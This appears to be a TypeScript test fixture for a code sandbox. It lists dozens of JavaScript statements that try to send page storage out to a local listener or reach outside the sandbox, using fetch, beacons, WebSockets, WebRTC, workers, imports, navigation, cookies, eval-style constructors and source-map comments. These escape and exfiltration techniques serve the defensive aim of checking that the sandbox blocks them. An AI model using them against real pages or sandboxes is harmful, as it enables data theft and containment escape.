/**
 * Statements that try to get something out of the sandbox, or into the page. `url` is an address that the listener hears,
 * `loot` what could be read of the page's storage, `stun` the listener as a STUN server.
 */
export const statements: Readonly<Record<string, string>> = {
  fetch: "fetch(url + loot)",
  "fetch that outlives its page": "fetch(url + loot, { keepalive: true, mode: 'no-cors' })",
  "fetch of the site itself": "fetch('/leak?' + loot)",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', url, false); x.send()",
  WebSocket: "new WebSocket(url.replace('http', 'ws'))",
  WebSocketStream: "new WebSocketStream(url.replace('http', 'ws'))",
  EventSource: "new EventSource(url)",
  WebTransport: "new WebTransport(url.replace('http', 'https'))",
  RTCPeerConnection:
    "const c = new RTCPeerConnection({ iceServers: [{ urls: stun }] }); c.createDataChannel(loot); c.createOffer().then((o) => c.setLocalDescription(o))",
  beacon: "navigator.sendBeacon(url, loot)",
  importScripts: "importScripts(url)",
  "import() of an address": "import(url + loot)",
  "import() of a data address": "import(url.replace(/.*/, 'data:text/javascript,postMessage(1)'))",
  "import() of its own script": "import(/blob:[^:)]*[^:)\\d]/.exec(new Error().stack)[0])",
  require: "globalThis.require(url)",
  "a worker": "new Worker(url)",
  "a worker of data": "new Worker('data:text/javascript,fetch(\"' + url + '\")')",
  "a shared worker": "new SharedWorker(url)",
  "a service worker": "navigator.serviceWorker.register(url)",
  "an image": "new Image().src = url + loot",
  "an image by the document": 'document.body.innerHTML = `<img src="${url}">`',
  audio: "new Audio(url).play()",
  "a font": "new FontFace('leak', `url(${url})`).load()",
  navigation: "location.href = url + loot",
  "navigation of the page": "top.location = url; parent.location = url",
  "a window": "open(url)",
  "a form": "document.forms[0].submit()",
  "a message to the page": "parent.postMessage(loot, '*'); top.postMessage(loot, '*')",
  localStorage: "localStorage.secret = 'changed'; sessionStorage.clear()",
  cookies: "document.cookie = 'leak=1'; cookieStore.set('leak', loot)",
  indexedDB: "indexedDB.deleteDatabase('leak')",
  caches: "caches.open('leak').then((c) => c.add(url))",
  "a file of its own": "navigator.storage.getDirectory()",
  BroadcastChannel: "new BroadcastChannel('leak').postMessage(loot)",
  eval: "eval('fetch(url)'); (0, eval)('self')",
  Function: "Function('u', 'fetch(u)')(url)",
  AsyncFunction: "(async () => {}).constructor('u', 'return import(u)')(url)",
  GeneratorFunction: "(function* () {}).constructor('u', 'fetch(u)')(url).next()",
  "a method of the port": "MessagePort.prototype.postMessage.call(globalThis, loot)",
  "the global's prototypes": "Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch(url)",
  "a call site's this":
    "let got; Error.prepareStackTrace = (_, f) => (got = f.map((s) => s.getThis?.() ?? s.getFunction?.())); new Error().stack; got.find((g) => g?.fetch).fetch(url)",
  "a style on the console": "console.log('%c', `background: url(${url})`); throw new Error('only text')",
  WebAssembly: "new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))",
  setTimeout: "setTimeout('fetch(url)', 0)",
  "a wall clock": "performance.now(); Date.now()",
};

/** What the language itself allows, and only the policy refuses: the rest must throw. */
export const allowed: readonly string[] = [
  "import() of an address",
  "import() of a data address",
  "import() of its own script",
];

/** Tries the statements and says on the console what became of each. */
export function tried(port: number, which: (name: string) => boolean = () => true): string {
  const each = Object.entries(statements)
    .filter(([name]) => which(name))
    .map(([name, code]) => {
      const said = JSON.stringify(`${name}\t`);
      return `try { ${code}; console.log(${said} + "ran") } catch (error) { console.log(${said} + error) }`;
    });
  return `const url = "http://127.0.0.1:${port}/leak?", stun = "stun:127.0.0.1:${port}";
let loot = "nothing"; try { loot = localStorage.secret } catch {}
${each.join("\n")}`;
}

/** What stands in a file beside the code. */
export const files: Readonly<Record<string, (url: string) => string>> = {
  "an import of an address": (url) => `import leak from "${url}";\nconsole.log(leak);`,
  "an import of data": () => `import "data:text/javascript,postMessage(1)";`,
  "an import of a file of the site": () => `import "/host/learner.js";`,
  "import() of an address as it stands": (url) => `void import("${url}");`,
  "an import of JSON": (url) => `import leak from "${url}" with { type: "json" };\nconsole.log(leak);`,
  "a source map": (url) => `//# sourceMappingURL=${url}\nthrow new Error("mapped");`,
  "a source map of its own": () =>
    `throw new Error("mapped");\n//# sourceMappingURL=data:application/json;base64,${btoa(`{"version":3,"sources":["${"<img>".repeat(9)}"],"names":[],"mappings":"${"A".repeat(9_999)}"}`)}`,
  "a script's address": (url) => `//# sourceURL=${url}\nthrow new Error("named");`,
  "reference paths": (url) =>
    `/// <reference path="${url}" />\n/// <reference types="${url}" />\nthrow new Error("referred");`,
  "a pragma": (url) => `/** @jsx leak @jsxImportSource ${url} */\nthrow new Error("said");`,
};
